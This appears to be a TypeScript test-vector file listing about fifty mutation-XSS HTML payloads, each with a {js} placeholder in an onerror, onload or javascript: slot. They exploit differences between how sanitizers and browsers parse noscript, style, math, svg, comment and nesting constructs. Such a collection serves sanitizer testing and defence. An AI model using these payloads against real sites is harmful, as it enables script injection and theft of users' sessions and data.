import { vectorsOf } from '../vector.ts'

/** HTML that means one thing to who cleans it and another to who shows it. */
export const mutation = vectorsOf('mutation', {
  'noscript attribute': '<noscript><p title="</noscript><img src=x onerror={js}>">',
  'style in attribute': '<style><p title="</style><img src=x onerror={js}>">',
  'title in attribute': '<title><a title="</title><img src=x onerror={js}>"></title>',
  'textarea in attribute': '<textarea><a title="</textarea><img src=x onerror={js}>"></textarea>',
  'xmp in attribute': '<xmp><p title="</xmp><img src=x onerror={js}>">',
  'iframe in attribute': '<iframe><p title="</iframe><img src=x onerror={js}>">',
  'noembed in attribute': '<noembed><p title="</noembed><img src=x onerror={js}>">',
  'noframes in attribute': '<noframes><p title="</noframes><img src=x onerror={js}>">',
  'template in attribute': '<template><p title="</template><img src=x onerror={js}>">',
  'math and mglyph':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
  'math and malignmark':
    '<math><mi><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
  'form in math': '<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>',
  'svg and style': '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
  'svg style image': '<svg><style><img src=x onerror={js}></style></svg>',
  'svg title style': '<svg><title><style><img src=x onerror={js}></style></title></svg>',
  'svg desc noscript':
    '<svg><desc><noscript><img title="</noscript><img src=x onerror={js}>"></desc></svg>',
  'math annotation style':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror={js}></style></annotation-xml></math>',
  'nested select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={js}>">',
  'select keygen': '<select><keygen><img src=x onerror={js}></select>',
  'select style': '<select><style></select><img src=x onerror={js}></style></select>',
  'table foster parent':
    '<table><tr><p><style></table><img src=x onerror={js}></style></tr></table>',
  'table caption':
    '<table><caption><svg><style><!--</style><img src=x onerror={js}>--></svg></caption></table>',
  'comment bang end': '<!-- --!><img src=x onerror={js}> -->',
  'comment short': '<!--><img src=x onerror={js}>-->',
  'comment dash': '<!---><img src=x onerror={js}>-->',
  'comment in comment': '<!-- <!-- --><img src=x onerror={js}> -->',
  'comment unfinished': '<!-- <img src=x onerror={js}>',
  'bogus comment': '<!foo><img src=x onerror={js}>',
  'bogus comment quote': '<!foo="><img src=x onerror={js}>">',
  'closing tag with attributes': '</p title="><img src=x onerror={js}>">',
  'closing tag with space': '</ p><img src=x onerror={js}>',
  'question comment': '<?x title=">"?><img src=x onerror={js}>',
  plaintext: '<plaintext><img src=x onerror={js}>',
  listing: '<listing>&lt;img src=x onerror={js}&gt;</listing>',
  'pre and newline': '<pre>\n\n&lt;img src=x onerror={js}&gt;</pre>',
  'attribute written twice': '<p title="&lt;" title="><img src=x onerror={js}>">x</p>',
  'attribute with grave accents': '<p title="``onmouseover={js}">x</p>',
  'attribute without value': '<p title=><img src=x onerror={js}>',
  'entity without semicolon': '<p title="&quot><img src=x onerror={js}>">x</p>',
  'doubly encoded':
    '<p>&amp;lt;img src=x onerror={js}&amp;gt;</p><p title="&amp;quot;&gt;&lt;img src=x onerror={js}&gt;">x',
  'font face quotes': `<font face="x'&quot;;&lt;img src=x onerror={js}&gt;">x</font>`,
  'deep nesting': `${'<div>'.repeat(600)}<svg><style><img src=x onerror={js}>`,
  'deep formatting': `${'<b><i><u>'.repeat(300)}</p><img src=x onerror={js}>`,
  'paragraph in link in paragraph':
    '<p><a href="https://shop.example/"><p><a href="javascript:{js}">x</a></p></a></p>',
  'heading by end tag': '<h1></h2 onload={js}><img src=x onerror={js}>',
  'html after html': '<html><body></body></html><html onclick={js}><body onload={js}>',
  'frameset late': '<p>x<frameset><frame onload={js} src="javascript:{js}"></frameset>',
  'menu and dialog': '<dialog open><form method=dialog><img src=x onerror={js}></form></dialog>',
  'custom tag with slash': '<a/b/c="><img/src/onerror={js}>">x',
  'ruby and rt': '<ruby><rt><svg><rtc><style><img src=x onerror={js}></ruby>',
  'declarative shadow root':
    '<div><template shadowrootmode=open><img src=x onerror={js}></template></div>',
  isindex: '<isindex action="javascript:{js}" type=image src=x onerror={js}>',
})
